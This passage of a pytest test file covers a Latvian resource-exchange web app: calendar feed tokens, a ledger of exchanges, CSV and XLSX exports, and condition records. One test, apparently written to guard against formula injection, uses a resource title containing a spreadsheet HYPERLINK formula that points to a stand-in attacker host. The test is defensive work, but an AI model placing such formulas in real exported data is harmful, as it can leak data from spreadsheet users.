    assert f'href="/exchanges/{unrelated.id}"' not in section(
        page(client_for(app, world.representative).get("/calendar?view=list")), "calendar")


def test_a_wrong_or_renewed_token_answers_404(app, world):
    anyone = app.test_client()
    old = f"/calendar/{world.feed_token}.ics"
    assert anyone.get(old).status_code == 200
    assert anyone.get("/calendar/not-the-token.ics").status_code == 404
    assert anyone.get(f"/calendar/{world.feed_token[:-1]}.ics").status_code == 404
    owner = client_for(app, world.member)
    assert owner.post("/calendar/renew").status_code == 302
    new_token = db.session.get(CalendarFeed, world.org.id).token
    assert new_token != world.feed_token
    assert anyone.get(old).status_code == 404
    assert anyone.get(f"/calendar/{new_token}.ics").status_code == 200
    assert f"/calendar/{new_token}.ics" in page(owner.get("/calendar"))


# ---------------------------------------------------------------- ledger

@pytest.fixture
def ledger_world(world, outsider):
    """Completed exchanges of org B in early 2025 (with explicit `today`s), and some that do not count."""
    sound = make_resource(world.other_representative, title="Skaņas aparatūra āra pasākumiem", category="equipment",
                          quantity=1, unit="komplekts", handover="delivery")

    def done(requester, owner, resource, start, days, value, units=None, today=date(2025, 1, 2)):
        end = start + timedelta(days=days - 1)
        exchange = services.request_exchange(requester, resource, starts_on=start, ends_on=end, quantity=1,
                                             hours=None, purpose="Pasākums", message="", today=today)
        services.accept(owner, exchange, today=today)
        if value is not False:
            services.complete(requester, exchange, value_units=units, value_eur=value, today=end)
        return exchange

    gave = done(world.other_member, world.representative, world.resource, date(2025, 2, 10), 2,
                Decimal("160.00"), Decimal("2"))
    received = done(world.member, world.other_representative, sound, date(2025, 3, 5), 1, Decimal("25.50"))
    gave_later = done(outsider, world.member, world.resource, date(2025, 4, 20), 1, Decimal("80.00"), Decimal("1"))
    still_open = done(world.other_member, world.representative, world.resource, date(2025, 3, 1), 1, False)
    db.session.commit()
    return {"gave": gave, "received": received, "gave_later": gave_later, "still_open": still_open}


def cells(row: str) -> list[str]:
    """The text of each cell of a table row (the cells carry data-label attributes for phones)."""
    return [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]


def eur(value: str) -> str:
    return format_currency(Decimal(value), "EUR", locale="en")


def test_the_ledger_lists_what_was_given_and_received(app, world, ledger_world):
    owner = client_for(app, world.representative)
    html = page(owner.get("/ledger?lang=en"))
    table = section(html, "ledger")
    for key, direction, other, value in (("gave", "given", "Sukrums", "160.00"),
                                         ("received", "received", "Sukrums", "25.50"),
                                         ("gave_later", "given", "Daugavas krasts", "80.00")):
        exchange = ledger_world[key]
        row = row_of(table, exchange.id)
        assert direction in cells(row) and other in row and eur(value) in row
        shown = en_date(exchange.starts_on) if exchange.starts_on == exchange.ends_on else \
            f"{en_date(exchange.starts_on)} – {en_date(exchange.ends_on)}"
        assert shown in cells(row)
    assert f'href="/exchanges/{ledger_world["still_open"].id}"' not in table
    totals = section_text(html, "ledger-totals")
    assert totals == f"Given: {eur('240.00')} · Received: {eur('25.50')}"

    # The other side sees the same exchanges the other way round.
    requester_table = section(page(client_for(app, world.other_member).get("/ledger?lang=en")), "ledger")
    assert "received" in cells(row_of(requester_table, ledger_world["gave"].id))
    assert "given" in cells(row_of(requester_table, ledger_world["received"].id))
    assert f'href="/exchanges/{ledger_world["gave_later"].id}"' not in requester_table


def section_text(html: str, testid: str) -> str:
    match = re.search(rf'<p[^>]*data-testid="{testid}"[^>]*>(.*?)</p>', html, re.S)
    assert match, testid
    return match.group(1).strip()


def test_the_ledger_filters_by_period(app, world, ledger_world):
    owner = client_for(app, world.representative)
    html = page(owner.get("/ledger?lang=en&start=2025-02-01&end=2025-03-31"))
    table = section(html, "ledger")
    assert f'href="/exchanges/{ledger_world["gave"].id}"' in table
    assert f'href="/exchanges/{ledger_world["received"].id}"' in table
    assert f'href="/exchanges/{ledger_world["gave_later"].id}"' not in table
    assert section_text(html, "ledger-totals") == f"Given: {eur('160.00')} · Received: {eur('25.50')}"
    assert 'value="2025-02-01"' in html and 'value="2025-03-31"' in html
    only_april = section(page(owner.get("/ledger?start=2025-04-01")), "ledger")
    assert f'href="/exchanges/{ledger_world["gave_later"].id}"' in only_april
    assert f'href="/exchanges/{ledger_world["gave"].id}"' not in only_april
    nothing = page(owner.get("/ledger?lang=en&end=2024-12-31"))
    assert "No completed exchanges in this period." in nothing


def read_csv(response, separator=";") -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # for spreadsheet programs
    return list(csv.reader(io.StringIO(text[1:]), delimiter=separator))


def test_the_ledger_exports_csv_in_latvian_as_excel_expects_it_in_latvia(app, world, ledger_world):
    owner = client_for(app, world.representative)
    rows = read_csv(owner.get("/ledger.csv"))
    assert rows[0] == ["Nr.", "Virziens", "Otra organizācija", "Resurss", "No", "Līdz", "Vienību skaits",
                       "Mērvienība", "Vērtība, EUR", "Pabeigta", "Apstiprinājums"]
    body = {row[0]: row for row in rows[1:]}
    assert len(rows) == 4 and len(body) == 3
    gave, received, later = ledger_world["gave"], ledger_world["received"], ledger_world["gave_later"]
    assert body[str(gave.id)][:9] == [str(gave.id), "sniegts", "Sukrums", world.resource.title, "2025-02-10",
                                      "2025-02-11", "2,00", "", "160,00"]
    assert body[str(received.id)][:9] == [str(received.id), "saņemts", "Sukrums",
                                          "Skaņas aparatūra āra pasākumiem", "2025-03-05", "2025-03-05", "", "",
                                          "25,50"]
    assert body[str(later.id)][1:3] == ["sniegts", "Daugavas krasts"] and body[str(later.id)][8] == "80,00"
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[9]) for row in rows[1:])
    assert sum(Decimal(row[8].replace(",", ".")) for row in rows[1:] if row[1] == "sniegts") == Decimal("240.00")

    filtered = read_csv(owner.get("/ledger.csv?start=2025-02-01&end=2025-03-31"))
    assert sorted(row[0] for row in filtered[1:]) == sorted([str(gave.id), str(received.id)])
    empty = read_csv(client_for(app, world.coordinator).get("/ledger.csv"))
    assert empty == [rows[0]]


def test_the_ledger_csv_in_english_uses_commas_and_decimal_points(app, world, ledger_world):
    rows = read_csv(client_for(app, world.representative).get("/ledger.csv?lang=en"), separator=",")
    assert rows[0] == ["No.", "Direction", "Other organization", "Resource", "From", "To", "Quantity of units",
                       "Unit", "Value, EUR", "Completed", "Confirmation"]
    gave = {row[0]: row for row in rows[1:]}[str(ledger_world["gave"].id)]
    assert gave[1] == "given" and gave[6:9] == ["2.00", "", "160.00"]


def test_the_ledger_downloads_as_xlsx_with_numbers_and_dates(app, world, ledger_world):
    from openpyxl import load_workbook

    response = client_for(app, world.representative).get("/ledger.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Nr.", "Virziens", "Otra organizācija")
    gave = {row[0]: row for row in rows[1:]}[ledger_world["gave"].id]
    assert gave[1] == "sniegts" and gave[4].date() == date(2025, 2, 10) and gave[8] == 160.0


def test_a_zero_value_is_exported_as_zero_not_as_nothing(app, world):
    """A free loan completed at 0 EUR: the page shows €0.00, and the CSV must say 0,00 too (an empty
    cell means "no value recorded")."""
    exchange = services.request_exchange(world.other_member, world.resource, starts_on=date(2025, 5, 6),
                                         ends_on=date(2025, 5, 6), quantity=1, hours=None, purpose="Pasākums",
                                         message="", today=date(2025, 5, 1))
    services.accept(world.representative, exchange, today=date(2025, 5, 1))
    services.complete(world.representative, exchange, value_units=Decimal("0"), value_eur=Decimal("0"),
                      today=date(2025, 5, 6))
    db.session.commit()
    owner = client_for(app, world.representative)
    assert eur("0.00") in row_of(section(page(owner.get("/ledger?lang=en")), "ledger"), exchange.id)
    rows = read_csv(owner.get("/ledger.csv?lang=lv"))
    assert rows[1][0] == str(exchange.id)
    assert rows[1][6] == "0,00" and rows[1][8] == "0,00"


def test_a_formula_in_a_title_reaches_the_partners_exports_as_text(app, world):
    """Issue 11 #10: a resource titled =HYPERLINK(…) must not be a live formula in the partner's ledger."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?x","x")'
    trap = make_resource(world.representative, title=formula, quantity=1)
    exchange = services.request_exchange(world.other_member, trap, starts_on=date(2025, 5, 6),
                                         ends_on=date(2025, 5, 6), quantity=1, hours=None, purpose="Pasākums",
                                         message="", today=date(2025, 5, 1))
    services.accept(world.representative, exchange, today=date(2025, 5, 1))
    services.complete(world.representative, exchange, value_units=None, value_eur=Decimal("5"),
                      today=date(2025, 5, 6))
    db.session.commit()
    partner = client_for(app, world.other_member)
    rows = read_csv(partner.get("/ledger.csv"))
    assert rows[1][3] == "'" + formula
    cell = load_workbook(io.BytesIO(partner.get("/ledger.xlsx").get_data())).active.cell(row=2, column=4)
    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix


# ---------------------------------------------------------------- more about values and conditions

def test_a_material_resource_priced_by_the_hour_is_requested_in_hours(world):
    """With a rate per hour the request must say how many hours; otherwise the suggested value would
    be a made-up 0 EUR that silently records a free exchange."""
    stage = make_resource(world.representative, title="Izvaltas tautas nama zāle", quantity=120,
                          value_eur=Decimal("15"), value_unit="hour")
    with pytest.raises(RuleViolation) as refused:
        new_request(world, stage, quantity=60)
    assert refused.value.field == "hours"
    exchange = new_request(world, stage, quantity=60, hours=Decimal("6"))
    assert services.default_value(exchange) == (Decimal("6"), Decimal("90.00"))


def test_the_detail_page_suggests_the_default_value(app, world, hall):
    exchange = in_state(world, hall, ACCEPTED)
    # Completion is offered from the last day on: let the period pass.
    exchange.starts_on, exchange.ends_on = date.today() - timedelta(days=2), date.today() - timedelta(days=1)
    db.session.commit()
    html = page(client_for(app, world.other_member).get(f"/exchanges/{exchange.id}?lang=en"))
    assert re.search(r'<input[^>]*name="value_eur"[^>]*value="160.00"', html), html
    assert re.search(r'<input[^>]*name="value_units"[^>]*value="2(\.00)?"', html)


def test_an_intellectual_request_without_hours_is_marked_at_hours(app, world, lecture, requester):
    before = count(Exchange)
    response = requester.post(f"/resources/{lecture.id}/request?lang=en", data=request_form(quantity="3"))
    html = page(response)
    assert response.status_code == 200 and 'data-field="hours"' in html
    assert "Say how many hours you need." in html
    ok = requester.post(f"/resources/{lecture.id}/request", data=request_form(quantity="3", hours="6"))
    assert ok.status_code == 302 and count(Exchange) == before + 1
    assert db.session.get(Exchange, int(ok.headers["Location"].rsplit("/", 1)[1])).hours == Decimal("6")


def test_conditions_at_hand_over_and_return_record_who_confirmed_them(app, world):
    exchange = world.accepted_exchange
    url = f"/exchanges/{exchange.id}"
    requester = client_for(app, world.other_representative)
    response = requester.post(f"{url}/conditions?lang=en", content_type="multipart/form-data", data={
        "stage": "return", "note": "Atdodam: viens krēsls ar ieplaisājušu kāju",
        "photo": (io.BytesIO(small_jpeg((10, 120, 10))), "kresls.jpg")})
    assert response.status_code == 302
    assert "The condition is recorded." in page(requester.get(response.headers["Location"]))
    records = db.session.scalars(select(ConditionRecord).where(ConditionRecord.exchange_id == exchange.id)
                                 .order_by(ConditionRecord.id)).all()
    assert [(c.stage, c.recorded_by_id, c.org_id, bool(c.photo_sha256)) for c in records] == [
        ("handover", world.representative.id, world.org.id, True),
        ("return", world.other_representative.id, world.other_org.id, True)]
    owner = client_for(app, world.representative)
    html = page(owner.get(f"{url}?lang=en"))
    assert "Atdodam: viens krēsls ar ieplaisājušu kāju" in html
    assert f"recorded by {world.other_representative.name} (Sukrums)" in html
    assert f"recorded by {world.representative.name} (Baltā māja)" in html
    for c in records:
        photo = owner.get(f"{url}/conditions/{c.id}.jpg")
        assert photo.status_code == 200 and photo.mimetype == "image/jpeg" and photo.data[:2] == b"\xff\xd8"
    assert requester.get(f"{url}/conditions/999999.jpg").status_code == 404
    # A condition of one exchange is not served under another's address.
    assert owner.get(f"/exchanges/{world.exchange.id}/conditions/{records[0].id}.jpg").status_code == 404


@pytest.mark.parametrize("case", ["requested", "intellectual", "bad-stage", "no-note", "not-a-photo"])
def test_conditions_are_refused_when_they_make_no_sense(world, hall, lecture, case):
    exchange = in_state(world, hall, REQUESTED if case == "requested" else ACCEPTED)
    stage, note, photo, field = "handover", "Viss kārtībā", None, None
    if case == "intellectual":
        exchange = new_request(world, lecture, quantity=1, hours=Decimal("2"))
        services.accept(world.representative, exchange, today=DAY0)
    elif case == "bad-stage":
        stage, field = "midway", "stage"
    elif case == "no-note":
        note, field = "  ", "note"
    elif case == "not-a-photo":
        photo, field = b"%PDF-1.4 not an image", "photo"
    before = count(ConditionRecord)
    with pytest.raises(RuleViolation) as refused:
        services.record_condition(world.other_member, exchange, stage, note, photo)
    assert refused.value.field == field
    assert count(ConditionRecord) == before


def test_an_empty_condition_record_keeps_its_message_at_the_field(app, world):
    owner = client_for(app, world.representative)
    url = f"/exchanges/{world.accepted_exchange.id}"
    before = len(world.accepted_exchange.conditions)
    refused = owner.post(f"{url}/conditions", data={"stage": "return", "note": " "})
    html = page(refused)
    assert refused.status_code == 422
    assert '<p class="error" data-field="note">Aprakstiet stāvokli.</p>' in html and 'href="#note"' in html
    db.session.expire_all()
    assert len(world.accepted_exchange.conditions) == before
